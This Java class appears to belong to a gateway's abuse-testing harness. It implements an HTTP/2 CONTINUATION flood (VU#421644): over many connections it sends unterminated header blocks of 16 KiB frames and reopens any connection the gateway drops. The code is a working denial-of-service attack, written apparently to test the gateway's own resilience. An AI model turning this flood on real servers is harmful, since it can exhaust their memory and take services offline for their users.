package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Target;
import gatehouse.abuse.Workers;
import gatehouse.testing.RawH2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;

/**
 * HTTP/2 CONTINUATION flood (VU#421644) over {@code connections} connections: a HEADERS frame
 * without END_HEADERS, then CONTINUATION frames of 16 KiB of header fields that never end the
 * block; a connection the gateway ends is opened again. Volume: CONTINUATION frames.
 */
public final class H2ContinuationFlood implements Attack {
  private static final byte[] FIELDS;

  static {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    while (block.size() < 16_000) RawH2.field(block, "x-continued", "a".repeat(100));
    FIELDS = block.toByteArray();
  }

  private final int connections;

  public H2ContinuationFlood(int connections) {
    this.connections = connections;
  }

  @Override
  public String name() {
    return "HTTP/2 CONTINUATION flood";
  }

  @Override
  public String unit() {
    return "frames";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    return Workers.run("continuation", connections, System.nanoTime() + duration.toNanos(), (deadline, volume, open) -> {
      while (System.nanoTime() < deadline) {
        try (RawH2 h2 = RawH2.open(target.port())) {
          open.add(h2);
          try {
            h2.send(RawH2.HEADERS, 0, 1, RawH2.request("GET", Target.ATTACK + "continuation"));
            while (!h2.closed() && System.nanoTime() < deadline) {
              h2.send(RawH2.CONTINUATION, 0, 1, FIELDS);
              volume.incrementAndGet();
            }
          } finally {
            open.remove(h2);
          }
        } catch (IOException e) {
          Thread.sleep(10);
        }
      }
    });
  }
}
